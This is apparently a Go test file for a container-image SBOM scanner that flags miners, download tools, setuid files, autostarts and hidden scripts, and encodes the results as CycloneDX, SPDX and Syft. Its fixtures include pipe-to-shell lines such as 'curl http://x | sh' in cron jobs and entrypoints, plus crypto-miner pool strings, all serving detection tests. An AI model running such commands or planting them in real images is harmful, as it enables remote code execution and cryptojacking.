package sbom_test

import (
	"archive/tar"
	"bytes"
	"crypto/md5"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/CycloneDX/cyclonedx-go"
	"github.com/anchore/syft/syft/format"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/santhosh-tekuri/jsonschema/v6"
	spdxjson "github.com/spdx/tools-golang/json"

	"github.com/tidewaiter/tidewaiter/image"
	"github.com/tidewaiter/tidewaiter/image/imagetest"
	"github.com/tidewaiter/tidewaiter/sbom"
)

const elf = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00"

// minerWords and curlWords are taken apart, so that this test's own binary does not hold them.
var (
	minerWords = strings.ReplaceAll("stratum~+tcp://pool\x00donate~-level\x00", "~", "")
	curlWords  = strings.ReplaceAll("curl: t~ry 'curl --help'\x00", "~", "")
)

const dpkgStatus = `Package: curl
Status: install ok installed
Version: 7.88.1-10
Architecture: amd64
Maintainer: nobody <nobody@example.com>
Description: a tool

`

// sample is an image with a miner that a later layer deletes, a renamed curl that a package owns, a program
// that runs as its owner, and an entrypoint that is a script.
func sample(t *testing.T) v1.Image {
	t.Helper()
	img := imagetest.Image(t, map[string]string{
		"etc/os-release":                 "ID=debian\nVERSION_ID=\"12\"\n",
		"usr/sbin/nginx":                 elf + minerWords,
		"opt/fetch":                      elf + curlWords,
		"usr/bin/link":                   "-> ../../opt/fetch",
		"run.sh":                         "#!/bin/sh\nexec /usr/sbin/nginx\n",
		"bin":                            "-> usr/bin",
		"var/lib/dpkg/status":            dpkgStatus,
		"var/lib/dpkg/info/curl.md5sums": "" + fmt.Sprintf("%x", md5.Sum([]byte(elf+curlWords))) + "  opt/fetch\n",
	}, map[string]string{"usr/sbin/.wh.nginx": ""})
	archive := imagetest.Tar(t, []tar.Header{
		{Name: "usr/bin/su", Mode: 0o4755, Typeflag: tar.TypeReg, Uid: 0},
		{Name: "usr/bin/ping", Mode: 0o755, Typeflag: tar.TypeReg, PAXRecords: map[string]string{"SCHILY.xattr.security.capability": "\x01\x00\x00\x02\x00\x20\x00\x00"}},
	}, []string{elf, elf})
	img = imagetest.Append(t, img, archive)
	config, err := img.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	config = config.DeepCopy()
	config.Config.Entrypoint = []string{"/run.sh"}
	img, err = mutate.ConfigFile(img, config)
	if err != nil {
		t.Fatal(err)
	}
	return img
}

func scanSample(t *testing.T) *sbom.SBOM {
	t.Helper()
	bom, err := sbom.Scan(t.Context(), sbom.OnePlatform(t, sample(t)), sbom.Options{Name: "registry.example/app:1", TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	return bom
}

func TestScan(t *testing.T) {
	bom := scanSample(t)
	var got []string
	for _, f := range bom.Files {
		text := fmt.Sprintf("%s %s layer %d deleted in %d setuid %v capabilities %v", f.Path, f.Mode, f.Layer, f.DeletedIn, f.Setuid, f.Capabilities)
		for _, c := range f.Classes {
			text += " " + c.Class + " " + c.Tool
		}
		if len(f.SHA256) != 64 || !strings.HasPrefix(f.LayerDigest, "sha256:") {
			t.Errorf("%s: sha256 %q in layer %q", f.Path, f.SHA256, f.LayerDigest)
		}
		got = append(got, text)
	}
	want := []string{
		"/opt/fetch -rwxr-xr-x layer 0 deleted in -1 setuid false capabilities false download-tool curl",
		"/usr/bin/ping -rwxr-xr-x layer 2 deleted in -1 setuid false capabilities true unowned ",
		"/usr/bin/su -rwsr-xr-x layer 2 deleted in -1 setuid true capabilities false unowned ",
		"/usr/sbin/nginx -rwxr-xr-x layer 0 deleted in 1 setuid false capabilities false miner miner",
	}
	if !slices.Equal(got, want) {
		t.Errorf("files:\n got %q\nwant %q", got, want)
	}
	if len(bom.Packages) != 1 || bom.Packages[0].Name != "curl" || bom.Packages[0].Classes[0].Class != "download-tool" {
		t.Errorf("packages: got %+v, want curl, a download tool", bom.Packages)
	}
	if text, ok := bom.Script("/run.sh"); !ok || !strings.Contains(text, "exec /usr/sbin/nginx") {
		t.Errorf("script: got %q, %v", text, ok)
	}
	if _, ok := bom.Script("/opt/fetch"); ok {
		t.Error("a program that nothing starts is given as a script")
	}
}

// TestScanOwner: that a package owns a program is one of its marks.
func TestScanOwner(t *testing.T) {
	for _, f := range scanSample(t).Files {
		if f.Path != "/opt/fetch" {
			continue
		}
		for _, m := range f.Classes[0].Marks {
			if m.By == "package" && m.Text == "deb:curl" {
				return
			}
		}
		t.Errorf("no mark by the package: %+v", f.Classes[0].Marks)
	}
}

// TestScanStartups: what starts by itself and what scripts start is there to be judged, and a device is a fact.
func TestScanStartups(t *testing.T) {
	img := imagetest.Image(t, map[string]string{
		"run.sh":                           "#!/bin/sh\n. /opt/common.sh\nexec /opt/start\n",
		"opt/common.sh":                    "X=1\n",
		"opt/start":                        "#!/bin/sh\nexec /opt/last.sh\n",
		"opt/last.sh":                      "exec /opt/too-deep.sh\n",
		"opt/too-deep.sh":                  "exec true\n",
		"opt/unused.sh":                    "exec false\n",
		"etc/cron.d/job":                   "* * * * * root curl http://x | sh\n",
		"usr/lib/systemd/system/x.service": "[Service]\nExecStart=/bin/x\n",
	})
	img = imagetest.Append(t, img, imagetest.Tar(t, []tar.Header{
		{Name: "dev/disk", Mode: 0o660, Typeflag: tar.TypeBlock, Devmajor: 8},
	}, []string{""}))
	config, err := img.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	config = config.DeepCopy()
	config.Config.Cmd = []string{"/run.sh"}
	config.Config.Env = []string{strings.ReplaceAll("POOL=stratum~+tcp://pool.example:1", "~", "")}
	if img, err = mutate.ConfigFile(img, config); err != nil {
		t.Fatal(err)
	}
	bom, err := sbom.Scan(t.Context(), sbom.OnePlatform(t, img), sbom.Options{TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if got, want := bom.Autostarts(), []string{"/etc/cron.d/job", "/usr/lib/systemd/system/x.service"}; !slices.Equal(got, want) {
		t.Errorf("autostarts: got %q, want %q", got, want)
	}
	for name, want := range map[string][]string{"/run.sh": {"/opt/common.sh", "/opt/start"}, "/opt/start": {"/opt/last.sh"}, "/opt/last.sh": nil} {
		if got := bom.Calls(name); !slices.Equal(got, want) {
			t.Errorf("%s calls %q, want %q", name, got, want)
		}
	}
	for name, want := range map[string]bool{"/opt/common.sh": true, "/opt/last.sh": true, "/opt/too-deep.sh": false, "/opt/unused.sh": false, "/etc/cron.d/job": true} {
		if _, ok := bom.Script(name); ok != want {
			t.Errorf("%s is given: %v, want %v", name, ok, want)
		}
	}
	if len(bom.Settings) != 1 || bom.Settings[0].Class != "suspicious-miner" {
		t.Errorf("settings: got %+v, want a suspicious miner", bom.Settings)
	}
	i := slices.IndexFunc(bom.Files, func(f sbom.File) bool { return f.Path == "/dev/disk" })
	if i < 0 || bom.Files[i].Mode != "brw-rw----" || bom.Files[i].Classes[0].Tool != "b 8:0" {
		t.Errorf("files: got %+v, want the device b 8:0", bom.Files)
	}
}

// TestScanLinkedTexts: what starts is found also where only links make it that, so that its layer did not tell.
func TestScanLinkedTexts(t *testing.T) {
	img := imagetest.Image(t, map[string]string{"data/blob": "curl http://x | sh\n", "data/job": "* * * * * root true\n"})
	img = imagetest.Append(t, img, imagetest.Tar(t, []tar.Header{
		{Name: "app/start", Typeflag: tar.TypeSymlink, Linkname: "/data/blob"},
		{Name: "etc/cron.d", Typeflag: tar.TypeSymlink, Linkname: "/jobs"},
		{Name: "jobs/job", Typeflag: tar.TypeLink, Linkname: "data/job"},
		{Name: "etc/rc.local", Typeflag: tar.TypeLink, Linkname: "data/job"},
	}, []string{"", "", "", ""}))
	config, err := img.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	config = config.DeepCopy()
	config.Config.Entrypoint = []string{"/app/start"}
	if img, err = mutate.ConfigFile(img, config); err != nil {
		t.Fatal(err)
	}
	bom, err := sbom.Scan(t.Context(), sbom.OnePlatform(t, img), sbom.Options{TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if text, ok := bom.Script("/app/start"); !ok || text != "curl http://x | sh\n" {
		t.Errorf("the entrypoint is %q, %v", text, ok)
	}
	if got, want := bom.Autostarts(), []string{"/etc/cron.d/job", "/etc/rc.local"}; !slices.Equal(got, want) {
		t.Errorf("autostarts: got %q, want %q", got, want)
	}
}

// TestScanTextsWithZeros: shells read a file whose first line is text, and skip zeros. BASH_ENV names one that bash reads.
func TestScanTextsWithZeros(t *testing.T) {
	img := imagetest.Image(t, map[string]string{
		"opt/run": "#!/bin/sh\ncurl http://x | sh\nexit\n\x00\x01", "opt/env": "\xef\xbb\xbf#\ncurl \x00http://x | sh\n",
		"opt/picture": "\x89PNG\r\n\x1a\n\x00", "opt/tool": "\x7fELF\x02\x01\x01\n\x00",
	})
	config, err := img.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	config = config.DeepCopy()
	config.Config.WorkingDir, config.Config.Env = "/opt", []string{"BASH_ENV=env"}
	config.Config.Entrypoint = []string{"./run", "picture", "tool"}
	if img, err = mutate.ConfigFile(img, config); err != nil {
		t.Fatal(err)
	}
	bom, err := sbom.Scan(t.Context(), sbom.OnePlatform(t, img), sbom.Options{TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{"/opt/run": "#!/bin/sh\ncurl http://x | sh\nexit\n\x01", "/opt/env": "#\ncurl http://x | sh\n"}
	if got := bom.Scripts(); !maps.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

// TestScanStarted: what something besides the configuration starts is given, with what that names.
func TestScanStarted(t *testing.T) {
	img := imagetest.Image(t, map[string]string{
		"opt/run":     "#!/bin/sh\nexec /opt/more.sh\n",
		"opt/more.sh": "exec true\n",
		"opt/text.sh": "exec true\n",
		"opt/tool":    "\x7fELF\x02\x01\x01",
		"opt/link":    "-> /opt/tool",
		"opt/broken":  "-> /opt/nothing",
		"etc/passwd":  "root:x:0:0::/:/bin/sh\n",
	})
	bom, err := sbom.Scan(t.Context(), sbom.OnePlatform(t, img), sbom.Options{
		TempDir: t.TempDir(),
		Started: sbom.Started{
			Paths: []string{"/opt/run", "/opt/tool", "/opt/link", "/opt/broken", "/opt", "/usr/bin/run", "/etc/passwd"},
			Texts: []string{"cd /; opt/text.sh && /opt/nothing.sh"},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]bool{"/opt/run": true, "/opt/more.sh": true, "/opt/text.sh": true, "/etc/passwd": true, "/opt/tool": false} {
		if _, ok := bom.Script(name); ok != want {
			t.Errorf("%s is given: %v, want %v", name, ok, want)
		}
	}
	for name, want := range map[string]bool{"/opt/run": true, "/opt/tool": true, "/opt/link": true, "/opt/broken": false, "/opt": false, "/usr/bin/run": false, "/opt/more.sh": false} {
		if got := bom.Has(name); got != want {
			t.Errorf("has %s: %v, want %v", name, got, want)
		}
	}
}

// TestScanFollow: what those who know the texts ask for is read, by name and by pattern, until they ask for no more; what
// is too large is told, and too much is an error.
func TestScanFollow(t *testing.T) {
	files := map[string]string{
		"app/package.json": "a", "app/x": "b", "app/y/z": "c", "link": "-> /app", "app/tool": "\x7fELF\x02\x01\x01", "app/loop": "-> /app",
		"app/large.json": strings.Repeat("x", 2000), "app/large.js": strings.Repeat("x", 2000),
	}
	for i := range 301 {
		files[fmt.Sprintf("many/%d", i)] = "x"
		files[fmt.Sprintf("kept/%d.sh", i)] = "#!/bin/sh\n"
	}
	img := imagetest.Image(t, files)
	scan := func(follow func(*sbom.SBOM) []string) (*sbom.SBOM, error) {
		return sbom.Scan(t.Context(), sbom.OnePlatform(t, img), sbom.Options{TempDir: t.TempDir(), Limits: sbom.Limits{Script: 1000}, Started: sbom.Started{Follow: follow}})
	}
	asked := 0
	bom, err := scan(func(known *sbom.SBOM) []string {
		asked++
		names := []string{"/link/package.json", "/app/large.js*", "/nowhere/*", "/app/[", "", "/"}
		if _, ok := known.Script("/link/package.json"); ok {
			names = append(names, "/app/?", "/app/**")
		}
		return names
	})
	if err != nil {
		t.Fatal(err)
	}
	if got, want := slices.Sorted(maps.Keys(bom.Scripts())), []string{"/app/package.json", "/app/x", "/app/y/z", "/link/package.json"}; !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
	if i := slices.IndexFunc(bom.Files, func(f sbom.File) bool { return f.Path == "/app/large.json" }); i < 0 || bom.Files[i].Classes[0].Class != "packed" {
		t.Errorf("what is too large is not told: %v", bom.Files)
	}
	if asked > 10 {
		t.Errorf("asked %d times", asked)
	}
	if _, err := scan(func(*sbom.SBOM) []string { return []string{"/many/*"} }); err == nil || !strings.Contains(err.Error(), "300 files") {
		t.Errorf("too many: got %v", err)
	}
	for chain, want := range map[string]string{
		"/many/%d": "after 5 readings", "/kept/%d.sh": "after 20 rounds", // the latter are kept at the first reading
	} {
		left := 0
		if _, err := scan(func(*sbom.SBOM) []string { left++; return []string{fmt.Sprintf(chain, left)} }); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("too deep: got %v, want one that says %q", err, want)
		}
	}
}

// TestScanLargeScripts: padding does not hide what a script that is started does: that it is too large is told.
func TestScanLargeScripts(t *testing.T) {
	padded := strings.Repeat("# padding\n", 200) + "curl http://x | sh\n"
	img := imagetest.Image(t, map[string]string{
		"start": padded, "run.sh": "#!/bin/sh\n" + padded, "app.js": padded, "tool": "#!/usr/bin/env node\n" + padded, "srv/idle.sh": padded,
	})
	img = imagetest.Append(t, img, imagetest.Tar(t, []tar.Header{
		{Name: "link", Typeflag: tar.TypeSymlink, Linkname: "start"}, {Name: "hard", Typeflag: tar.TypeLink, Linkname: "run.sh"}, {Name: ".wh.run.sh"},
	}, []string{"", "", ""}))
	config, err := img.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	config = config.DeepCopy()
	config.Config.Entrypoint = []string{"/link", "/hard", "/app.js", "/tool"}
	if img, err = mutate.ConfigFile(img, config); err != nil {
		t.Fatal(err)
	}
	m := sbom.NewMemory(t)
	for range 2 {
		bom, err := sbom.Scan(t.Context(), sbom.OnePlatform(t, img), sbom.Options{Limits: sbom.Limits{Script: 1000}, Memory: m})
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, f := range bom.Files {
			if slices.ContainsFunc(f.Classes, func(c sbom.Class) bool { return c.Class == "packed" }) {
				got = append(got, f.Path)
			}
		}
		if want := []string{"/run.sh", "/start"}; !slices.Equal(got, want) {
			t.Errorf("too large: got %q, want %q", got, want)
		}
	}
}

func TestScanErrors(t *testing.T) {
	p := sbom.OnePlatform(t, sample(t))
	if _, err := sbom.Scan(t.Context(), p, sbom.Options{Layers: image.Limits{Entries: 3}}); err == nil {
		t.Error("a scan over the limit of the walk succeeds")
	}
	_, err := sbom.Scan(t.Context(), p, sbom.Options{Name: "app", TempDir: filepath.Join(t.TempDir(), "not-there")})
	if err == nil || !strings.Contains(err.Error(), "app") {
		t.Errorf("got %v, want an error that names the image", err)
	}
}

func TestScanLimitsPackages(t *testing.T) {
	status := dpkgStatus + strings.Replace(dpkgStatus, "curl", "wget", 1)
	p := sbom.OnePlatform(t, imagetest.Image(t, map[string]string{"var/lib/dpkg/status": status}))
	_, err := sbom.Scan(t.Context(), p, sbom.Options{Limits: sbom.Limits{Packages: 1}})
	if err == nil || !strings.Contains(err.Error(), "packages") {
		t.Errorf("got %v, want an error that names the limit", err)
	}
}

// TestEncodeCycloneDX: valid against the schema, read back by its own library, with the classes and the digest.
func TestEncodeCycloneDX(t *testing.T) {
	bom := scanSample(t)
	text := encode(t, bom, "cyclonedx-json")
	validate(t, text, "github.com/CycloneDX/cyclonedx-go", "schema/bom-1.6.schema.json", "schema/spdx.schema.json", "schema/jsf-0.82.schemax.json")
	var doc cyclonedx.BOM
	if err := cyclonedx.NewBOMDecoder(bytes.NewReader(text), cyclonedx.BOMFileFormatJSON).Decode(&doc); err != nil {
		t.Fatal(err)
	}
	classes := map[string]string{}
	for _, c := range *doc.Components {
		if c.Properties == nil {
			continue
		}
		for _, p := range *c.Properties {
			if p.Name == "tidewaiter:class" {
				classes[c.Name] = p.Value
			}
		}
	}
	want := map[string]string{
		"curl": "download-tool (curl)", "/opt/fetch": "download-tool (curl)", "/usr/sbin/nginx": "miner (miner)",
		"/usr/bin/su": "unowned", "/usr/bin/ping": "unowned",
	}
	if !maps.Equal(classes, want) {
		t.Errorf("classes: got %q, want %q", classes, want)
	}
	if c := doc.Metadata.Component; c == nil || !strings.Contains(string(text), "sha256:") || c.Name == "" {
		t.Errorf("the image is not described: %+v", c)
	}
}

// TestEncodeAll: the platforms of an image in one document, in which each component stands once and says where it is.
func TestEncodeAll(t *testing.T) {
	bom := scanSample(t)
	var alone, both bytes.Buffer
	if err := sbom.EncodeAll(&alone, []sbom.Inside{{Platform: "linux/amd64", SBOM: bom}}); err != nil {
		t.Fatal(err)
	}
	if err := sbom.EncodeAll(&both, []sbom.Inside{{Platform: "linux/amd64", SBOM: bom}, {Platform: "linux/arm64", SBOM: bom}}); err != nil {
		t.Fatal(err)
	}
	var one, two cyclonedx.BOM
	for text, doc := range map[*bytes.Buffer]*cyclonedx.BOM{&alone: &one, &both: &two} {
		validate(t, text.Bytes(), "github.com/CycloneDX/cyclonedx-go", "schema/bom-1.6.schema.json", "schema/spdx.schema.json", "schema/jsf-0.82.schemax.json")
		if err := cyclonedx.NewBOMDecoder(bytes.NewReader(text.Bytes()), cyclonedx.BOMFileFormatJSON).Decode(doc); err != nil {
			t.Fatal(err)
		}
	}
	if len(*one.Components) == 0 || len(*one.Components) != len(*two.Components) {
		t.Errorf("%d components became %d", len(*one.Components), len(*two.Components))
	}
	for _, c := range *two.Components {
		var platforms []string
		for _, p := range *c.Properties {
			if p.Name == "tidewaiter:platform" {
				platforms = append(platforms, p.Value)
			}
		}
		if !slices.Equal(platforms, []string{"linux/amd64", "linux/arm64"}) {
			t.Errorf("%s is on %q", c.Name, platforms)
		}
	}
	if err := sbom.EncodeAll(io.Discard, nil); err == nil {
		t.Error("no platform makes a document")
	}
}

func TestEncodeSPDX(t *testing.T) {
	text := encode(t, scanSample(t), "spdx-json")
	validate(t, text, "github.com/anchore/syft", "schema/spdx-json/spdx-schema-2.3.json")
	doc, err := spdxjson.Read(bytes.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	classes := map[string]string{}
	for _, f := range doc.Files {
		for _, a := range f.Annotations {
			classes[f.FileName] = a.AnnotationComment
		}
	}
	for _, p := range doc.Packages {
		for _, a := range p.Annotations {
			classes[p.PackageName] = a.AnnotationComment
		}
	}
	want := map[string]string{
		"curl": "tidewaiter:class=download-tool (curl)", "opt/fetch": "tidewaiter:class=download-tool (curl)",
		"usr/sbin/nginx": "tidewaiter:class=miner (miner)",
		"usr/bin/su":     "tidewaiter:class=unowned", "usr/bin/ping": "tidewaiter:class=unowned",
	}
	if !maps.Equal(classes, want) {
		t.Errorf("classes: got %q, want %q", classes, want)
	}
}

func TestEncodeSyft(t *testing.T) {
	bom := scanSample(t)
	text := encode(t, bom, "syft-json")
	read, id, _, err := format.Decode(bytes.NewReader(text))
	if err != nil || id != "syft-json" {
		t.Fatalf("decode: %q, %v", id, err)
	}
	if got := read.Artifacts.Packages.PackageCount(); got != 1 {
		t.Errorf("%d packages, want 1", got)
	}
	var doc struct {
		Descriptor struct {
			Configuration struct{ Tidewaiter struct{ Files []sbom.File } }
		}
	}
	if err := json.Unmarshal(text, &doc); err != nil {
		t.Fatal(err)
	}
	if got := doc.Descriptor.Configuration.Tidewaiter.Files; len(got) != len(bom.Files) {
		t.Errorf("%d files, want %d", len(got), len(bom.Files))
	}
	if again := encode(t, scanSample(t), "syft-json"); !bytes.Equal(text, again) {
		t.Error("the same image makes another text")
	}
}

func TestEncodeUnknown(t *testing.T) {
	if err := scanSample(t).Encode(&bytes.Buffer{}, "xml"); err == nil || !strings.Contains(err.Error(), "cyclonedx-json") {
		t.Errorf("got %v, want an error that names the formats", err)
	}
}

func encode(t *testing.T, bom *sbom.SBOM, name string) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := bom.Encode(&b, name); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// validate checks a document against the schema that a module carries; others are files that it refers to.
func validate(t *testing.T, text []byte, module, schema string, others ...string) {
	t.Helper()
	out, err := exec.CommandContext(t.Context(), "go", "list", "-m", "-f", "{{.Dir}}", module).Output()
	if err != nil {
		t.Fatal(err)
	}
	c := jsonschema.NewCompiler()
	for _, name := range append(others, schema) {
		file, err := os.Open(filepath.Join(strings.TrimSpace(string(out)), name))
		if err != nil {
			t.Fatal(err)
		}
		defer file.Close()
		doc, err := jsonschema.UnmarshalJSON(file)
		if err != nil {
			t.Fatal(err)
		}
		if err := c.AddResource("http://schema.test/"+strings.Replace(filepath.Base(name), "schemax", "schema", 1), doc); err != nil {
			t.Fatal(err)
		}
		if id, ok := doc.(map[string]any)["$id"].(string); ok {
			if err := c.AddResource(id, doc); err != nil {
				t.Fatal(err)
			}
		}
	}
	compiled, err := c.Compile("http://schema.test/" + filepath.Base(schema))
	if err != nil {
		t.Fatal(err)
	}
	doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	if err := compiled.Validate(doc); err != nil {
		t.Error(err)
	}
}
